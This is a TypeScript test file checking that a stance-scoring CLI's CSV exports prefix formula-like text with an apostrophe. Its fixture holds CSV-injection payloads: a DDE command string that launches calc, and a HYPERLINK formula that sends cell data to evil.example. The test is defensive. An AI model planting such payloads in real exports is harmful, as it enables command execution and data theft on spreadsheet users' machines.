import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
// First: app/registry.ts -> scorers/model-scorers.ts -> lookup.ts -> scorers/index.ts is a cycle,
// and entered through the fixture's registry it leaves the nli and prototype scorers undefined.
import '../../app/scorers/index.ts';
import { runCliInProcess } from '../helpers/in-process-cli.ts';
import { openDatabase } from '../../db/client.ts';
import { parseCsv } from '../../pipeline/csv.ts';
import { buildScoreFixture, FIXTURE_AXES, fixtureCliEnv, type FixtureChunk } from '../helpers/score-fixture.ts';

// A hostile tester's metadata and text, each starting like a spreadsheet formula, must reach every
// CSV the CLI writes (export's four tables, compare --csv, --pairs-csv) as text with a leading
// apostrophe, while negative scores, positions and differences stay plain numbers.

const SOURCE = "=cmd|'/c calc'!A1";
const OTHER = '@other';
const TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"click") says who governs the Internet.';
const chunksWith = (scores: number[]): FixtureChunk[] =>
  scores.map((s, i) => ({ text: i === 0 ? TEXT : `Passage ${i + 1} on who governs the Internet.`, scores: { gov: { score: s, relevance: 0.9, label: s < 0 ? 'state' : 'multi' } } }));

const work = mkdtempSync(join(tmpdir(), 'stance-csv-formulas-'));
let env: Record<string, string>;

beforeAll(async () => {
  const database = await openDatabase({ dataDir: join(work, 'store'), migrations: 'apply' });
  try {
    await buildScoreFixture(database.db, {
      axes: FIXTURE_AXES,
      documents: [
        { source: SOURCE, actor: '+1+1', title: '@SUM(A1)', kind: '-2-2', chunks: chunksWith([-0.8, -0.6, -0.7, -0.9]) },
        { source: OTHER, actor: 'Plain actor', chunks: chunksWith([0.7, 0.5, 0.9]) },
      ],
    });
  } finally {
    await database.close();
  }
  env = fixtureCliEnv(work);
}, 120_000);
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** Rows of a CSV as objects by header. */
function csvObjects(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries((header ?? []).map((h, i) => [h, r[i] ?? ''])));
}

/** Every cell of the rows that starts like a formula (none should, apostrophe aside). */
const formulaCells = (rows: Record<string, string>[]) => rows.flatMap((r) => Object.entries(r)).filter(([, v]) => /^[=+@\t\r]/.test(v));
const NEGATIVE_NUMBER = /^-\d+(\.\d+)?(e-?\d+)?$/;

describe('CSV written for spreadsheets', { timeout: 120_000 }, () => {
  it('export prefixes formula-like text in every table and keeps negative numbers as numbers', async () => {
    const out = join(work, 'export');
    const r = await runCliInProcess(['export', '--out', out, '--scorer', 'nli'], env);
    expect(r.code, r.stderr).toBe(0);
    const read = (table: string) => csvObjects(readFileSync(join(out, `${table}.csv`), 'utf8'));

    const documents = read('documents');
    expect(documents[0]).toMatchObject({ source: `'${SOURCE}`, actor: "'+1+1", title: "'@SUM(A1)", kind: "'-2-2" });
    expect(documents[1]).toMatchObject({ source: `'${OTHER}`, actor: 'Plain actor' });

    const chunks = read('chunks');
    expect(chunks[0]).toMatchObject({ source: `'${SOURCE}`, actor: "'+1+1", kind: "'-2-2", text: `'${TEXT}` });
    expect(chunks[0]?.score).toMatch(NEGATIVE_NUMBER);
    expect(Number(chunks[0]?.score)).toBeCloseTo(-0.8, 6);

    const positions = read('positions');
    expect(positions.map((p) => p.group)).toEqual([`'${SOURCE}`, `'${OTHER}`]);
    expect(positions[0]?.position).toMatch(NEGATIVE_NUMBER);

    const pairs = read('pairs');
    expect(pairs[0]).toMatchObject({ a: `'${SOURCE}`, b: `'${OTHER}` });
    expect(pairs[0]?.diff).toMatch(NEGATIVE_NUMBER);

    for (const rows of [documents, chunks, positions, pairs]) expect(formulaCells(rows)).toEqual([]);
  });

  it('compare --csv and --pairs-csv prefix the group names and keep negative numbers', async () => {
    const pairsFile = join(work, 'pairs.csv');
    const r = await runCliInProcess(['compare', '--axis', 'gov', '--scorer', 'nli', '--iterations', '200', '--csv', '--pairs-csv', pairsFile], env);
    expect(r.code, r.stderr).toBe(0);
    const positions = csvObjects(r.stdout);
    expect(positions.map((p) => p.group)).toEqual([`'${SOURCE}`, `'${OTHER}`]);
    expect(positions[0]?.position).toMatch(NEGATIVE_NUMBER);
    expect(positions[0]?.ci_low).toMatch(NEGATIVE_NUMBER);
    const pairs = csvObjects(readFileSync(pairsFile, 'utf8'));
    expect(pairs[0]).toMatchObject({ a: `'${SOURCE}`, b: `'${OTHER}`, status: 'ok' });
    expect(pairs[0]?.diff).toMatch(NEGATIVE_NUMBER);
    expect(pairs[0]?.ci_low).toMatch(NEGATIVE_NUMBER);
    expect(formulaCells([...positions, ...pairs])).toEqual([]);
  });
});
